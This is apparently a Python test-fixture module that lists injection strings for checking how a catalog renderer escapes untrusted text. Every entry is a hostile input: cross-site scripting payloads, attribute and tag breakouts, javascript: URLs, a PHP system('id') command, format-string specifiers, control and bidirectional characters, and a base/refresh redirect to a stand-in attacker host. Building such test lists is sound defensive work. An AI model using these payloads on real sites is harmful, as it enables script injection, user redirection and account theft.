"""Texts that somebody who may write a catalog, and nothing else, would try.

In: nothing. Out: texts. Never done here: judging what became of them.
"""

PAYLOADS = {
    "script": "<script>alert(1)</script>",
    "script, doubly escaped": "&lt;script>alert(1)&lt;/script>&amp;lt;img src=x onerror=alert(1)>",
    "handler": "<img src=x onerror=alert(1)>",
    "handler without spaces": "<svg/onload=alert(1)>",
    "out of a quoted attribute": '" onmouseover="alert(1)" x="',
    "out of an apostrophe": "' onmouseover='alert(1)' x='",
    "out of an unquoted attribute": "x onmouseover=alert(1) y=`z`",
    "address": "javascript:alert(1)",
    "link": '<a href="javascript:alert(1)">x</a>',
    "refresh": "0;url=javascript:alert(1)",
    "closing tags": "</p></div></body></html></title></textarea></script></style></noscript></option></svg>",
    "closing tags, escaped": "&lt;/title>&lt;/textarea>&lt;/script>&lt;/noscript><",
    "torn tag": "text <img src=x onerror=alert(1) ",
    "torn end": "text </",
    "comment": "<!-- x --><!--[if IE]><script>alert(1)</script><![endif]--> <!",
    "torn comment": "text <!-- x",
    "CDATA": "]]><script>alert(1)</script><![CDATA[",
    "processing instruction": "<?php system('id') ?><?xml-stylesheet href='javascript:alert(1)'?>",
    "references": "&#60;script&#62;alert(1)&#60;/script&#62; &lt;b&gt; &NewLine;&colon;&lpar;",
    "torn reference": "&lt;b onclick=x&gt &#x3c",
    "JSON": '\\", "url": "javascript:alert(1)", "x": "</script><script>alert(1)</script>',
    "JSON, torn": "\\u003c/script\\u003e \\",
    "placeholders": "{0.__class__} {date!r} {} {{x}} {count:>1000000000}",
    "percent": "%s %n %(x)s %",
    "bidirectional": "\u202eevil\u202c \u2066abc \u2069\u200f\u061c",
    "separators": "a\u2028b\u2029c\x85d\x0be",
    "controls": "a\x01b\x1b[31mc\x7fd\ufffee",
    "null": "a\0b<\0script>",
    "line ends": "a\r\nb\rc\n<script>",
    "plaintext": "<plaintext>",
    "template": "<template><script>1</script>",
    "namespace": "<math><mtext></p><style><!--</style><img title='--&gt;&lt;img src=x onerror=alert(1)&gt;'>",
    "base": '<base href="//evil.example/"><meta http-equiv=refresh content="0;url=//evil.example/">',
    "lone surrogate": "a\udc80b\ud800c",
}
"""What breaks out of where text stands, by the name of the trick."""
